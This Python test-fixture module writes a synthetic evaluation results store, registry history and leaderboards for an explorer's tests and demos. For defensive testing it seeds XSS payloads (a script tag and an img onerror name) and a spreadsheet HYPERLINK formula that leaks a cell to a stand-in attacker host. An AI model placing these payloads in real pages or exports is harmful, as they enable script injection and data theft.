"""A small, realistic results store for the explorer's tests, benchmark and demos.

Everything is written the way the pipeline writes it: scenario instances, model outputs
(``ModelOutput`` rows), instance scores and metric tables from ``score_partition``, rankings
partitions from ``build_leaderboard``, and a registry whose event log holds the versions'
registrations and an alias that moves. Outputs are synthetic (no model runs): each version
gets a skill, and its per-choice log-probabilities follow from it deterministically.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from assay.compare.ranking import Leaderboard, build_leaderboard
from assay.compare.stored_boards import write_board
from assay.core.digests import seed_from
from assay.core.records import (
    ChoiceScore,
    Completion,
    Instance,
    InstanceStat,
    ModelOutput,
    Reference,
    Request,
    RequestKind,
)
from assay.registry import Registry
from assay.scoring.judge_scores import judge_reply_table
from assay.scoring.metrics.directions import lower_is_better_in
from assay.scoring.metrics.toxicity import JudgeToxicityScorer
from assay.scoring.scorecard import score_partition
from assay.scoring.summary import scorecard_table
from assay.storage.contract import JUDGE_REPLIES
from assay.storage.parquet import ParquetStore

# Texts a hostile dataset, model or registry user could send; the explorer must show them
# as text. The registry's name rule refuses markup in names, so the hostile texts go into
# descriptions, inputs and outputs; HOSTILE_NAME is for the file-name rules, which must hold
# for any text all the same.
SCRIPT_PAYLOAD = "<script>alert('xss')</script>"
HOSTILE_NAME = "evil<img src=x onerror=alert(1)>"
# A spreadsheet formula (version 1's description): CSV exports must not hand it over as one.
FORMULA_PAYLOAD = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"version 1")'
SAMPLE_MODEL = "sample-model"
_WORDS = tuple(
    "alpha beta gamma delta epsilon zeta eta theta iota kappa lambda mu".split()  # noqa: SIM905
)


@dataclass(frozen=True)
class SampleScenario:
    """One synthetic scenario: multiple choice (with perturbations and groups) or QA."""

    key: str
    kind: str  # "mc" or "qa"
    metric: str
    perturbations: tuple[str, ...] = ()


DEFAULT_SCENARIOS = (
    SampleScenario("mc-quiz", "mc", "acc", ("typos", "dialect")),
    SampleScenario("short-qa", "qa", "exact_match"),
)


@dataclass(frozen=True)
class Sample:
    """What was written: the versions (best first by construction), scenarios and days."""

    versions: tuple[str, ...]
    scenarios: tuple[SampleScenario, ...]
    days: tuple[str, ...]
    primary_metrics: dict[str, str]
    alias: str


class _Clock:
    def __init__(self, start: datetime) -> None:
        self.now = start

    def __call__(self) -> datetime:
        return self.now


def _instances(scenario: SampleScenario, n: int, hostile: bool) -> list[Instance]:
    rng = np.random.default_rng(seed_from("sample-instances", scenario.key))
    out = []
    for i in range(n):
        words = " ".join(rng.choice(_WORDS, size=6))
        text = f"Question {i}: which word follows '{words}'?"
        if hostile and i == 0:
            text += f" {SCRIPT_PAYLOAD}"
        group = {"dialect": "AAE" if i % 2 else "SAE"} if scenario.kind == "mc" else {}
        if scenario.kind == "mc":
            options = list(rng.choice(_WORDS, size=4, replace=False))
            if hostile and i == 0:
                options[1] = f"<b>{SCRIPT_PAYLOAD}</b>"
            gold = int(rng.integers(0, 4))
            refs = tuple(Reference(o, j == gold) for j, o in enumerate(options))
        else:
            answer = str(rng.choice(_WORDS))
            refs = (Reference(answer, True),)
        out.append(Instance(f"{scenario.key}-{i:05d}", text, refs, groups=group))
    return out


def _outputs(
    scenario: SampleScenario, instances: Sequence[Instance], version: str, skill: float
) -> list[ModelOutput]:
    rng = np.random.default_rng(seed_from("sample-outputs", scenario.key, version))
    rows: list[ModelOutput] = []
    template = f"{scenario.key}-template@v1"
    for perturbation in ("", *scenario.perturbations):
        # Perturbed inputs are a little harder.
        level = skill - (0.12 if perturbation else 0.0)
        for instance in instances:
            prompt = f"Answer the question.\n\n{instance.input}\nAnswer:"
            if perturbation:
                prompt = prompt.replace("word", "wrod")
            right = rng.random() < level
            latency = float(0.05 + rng.exponential(0.05))
            if scenario.kind == "mc":
                gold = instance.correct_indices[0]
                n = len(instance.references)
                chosen = gold if right else (gold + 1 + int(rng.integers(0, n - 1))) % n
                logits = rng.normal(0.0, 0.5, size=n)
                logits[chosen] += 1.5 + rng.random()
                logprobs = logits - np.log(np.exp(logits).sum())
                choices = tuple(
                    ChoiceScore(r.text, float(lp), 2, len(r.text), len(r.text.encode()))
                    for r, lp in zip(instance.references, logprobs, strict=True)
                )
                request = Request(
                    instance.id,
                    RequestKind.LOGLIKELIHOOD,
                    prompt,
                    continuations=tuple(r.text for r in instance.references),
                    template_id=template,
                    perturbation=perturbation,
                    method="multiple_choice_separate",
                )
                completion = Completion(
                    prompt_tokens=len(prompt.split()),
                    choices=choices,
                    latency_s=latency,
                    batch_size=4,
                )
            else:
                gold = instance.gold_texts[0]
                text = gold if right else str(rng.choice(_WORDS))
                if instance.id.endswith("00000"):
                    text = f"{text} {SCRIPT_PAYLOAD}"
                request = Request(
                    instance.id,
                    RequestKind.GENERATE,
                    prompt,
                    max_tokens=8,
                    stop=("\n",),
                    template_id=template,
                    perturbation=perturbation,
                    method="generation",
                )
                completion = Completion(
                    text=text,
                    prompt_tokens=len(prompt.split()),
                    completion_tokens=len(text.split()),
                    latency_s=latency,
                )
            rows.append(ModelOutput(request, completion))
    return rows


SAMPLE_TOXICITY_JUDGE = "judge:sample-judge@v1:builtin"


def _toxicity_judge(hostile: bool) -> JudgeToxicityScorer:
    """A toxicity judge whose "model" replies by rule: a score from the text's length, no
    number for texts of one word, and markup in its reply to a text with markup."""

    def complete(prompts: Sequence[str]) -> list[str]:
        replies = []
        for prompt in prompts:
            text = prompt.split("Text:\n", 1)[-1].split("\n\nToxicity:", 1)[0]
            if len(text.split()) == 1 and len(text) % 3 == 0:
                replies.append("I cannot rate that.")
            elif hostile and "<script>" in text:
                replies.append(f"0.9 because it holds {SCRIPT_PAYLOAD}")
            else:
                replies.append(f"{min(len(text), 9) / 10:.1f}")
        return replies

    return JudgeToxicityScorer(complete, name=SAMPLE_TOXICITY_JUDGE)


def write_sample(
    store: ParquetStore,
    registry: Registry,
    *,
    clock: Callable[[datetime], None],
    n_versions: int = 3,
    n_instances: int = 24,
    scenarios: Sequence[SampleScenario] = DEFAULT_SCENARIOS,
    hostile: bool = True,
    n_resamples: int = 200,
    start: datetime = datetime(2026, 11, 1, 9, tzinfo=UTC),
    progress: Callable[[str], None] | None = None,
) -> Sample:
    """Write a sample results store and registry history.

    One version is registered per day (``clock`` sets the registry's time); the ``champion``
    alias follows the newest version every other day, and each day gets a rankings partition.
    Version ``k`` has skill rising with ``k``, so later versions rank higher.
    """
    versions: list[str] = []
    days: list[str] = []
    model = SAMPLE_MODEL
    registry.create_model(model, description=f"a model {SCRIPT_PAYLOAD}" if hostile else "")
    instances = {s.key: _instances(s, n_instances, hostile) for s in scenarios}
    for s in scenarios:
        store.write("scenario_instances", {"scenario": s.key}, Instance.to_table(instances[s.key]))
    primary = {s.key: s.metric for s in scenarios}
    for k in range(n_versions):
        day = start + timedelta(days=k)
        clock(day)
        version = registry.create_version(
            model,
            "bundled:smollm2-135m-instruct",
            description=(f"version {k + 1} {SCRIPT_PAYLOAD}" if k else FORMULA_PAYLOAD)
            if hostile
            else "",
        )
        versions.append(version.key)
        skill = 0.35 + 0.5 * (k + 1) / n_versions
        for s in scenarios:
            outputs = _outputs(s, instances[s.key], version.key, skill)
            # Generated answers are rated by a toxicity judge (scripted replies, one hostile).
            judge = _toxicity_judge(hostile) if s.kind == "qa" else None
            scored = score_partition(
                instances[s.key], outputs, toxicity=judge, seed_key=f"{version.key}|{s.key}"
            )
            where = {"model_version": version.key, "scenario": s.key}
            store.write("model_outputs", where, ModelOutput.to_table(outputs))
            store.write("instance_scores", where, InstanceStat.to_table(scored.stats))
            store.write("metric_tables", where, scorecard_table(scored.card))
            replies = judge_reply_table(instances[s.key], outputs, None, scored.toxicity_run)
            if replies is not None:
                store.write(JUDGE_REPLIES, where, replies)
        if k % 2 == 0:
            clock(day + timedelta(hours=2))
            registry.set_alias(model, "champion", version.version, actor="release-bot")
        days.append(f"{day:%Y-%m-%d}")
        if progress:
            progress(f"version {k + 1}/{n_versions}")
    results_cards = store.read_all("metric_tables")
    results_scores = store.read_all("instance_scores")
    for i, day in enumerate(days):
        board = board_of(
            results_cards, results_scores, versions[: i + 1], primary, day, n_resamples
        )
        store.write("rankings", {"day": day}, board.to_table())
        write_board(store, day, board)
    return Sample(tuple(reversed(versions)), tuple(scenarios), tuple(days), primary, "champion")


def board_of(
    cards: pa.Table,
    scores: pa.Table,
    versions: Sequence[str],
    primary: dict[str, str],
    day: str,
    n_resamples: int = 200,
) -> Leaderboard:
    """The leaderboard over ``versions`` (as ``assay.compare.standings`` builds it for a day)."""
    keep = pa.array(sorted(versions), pa.string())
    return build_leaderboard(
        cards.filter(pc.is_in(cards["model_version"], keep)),
        scores.filter(pc.is_in(scores["model_version"], keep)),
        primary_metrics=primary,
        lower_is_better=lower_is_better_in(cards),
        seed=seed_from("rankings", day),
        n_resamples=n_resamples,
    )
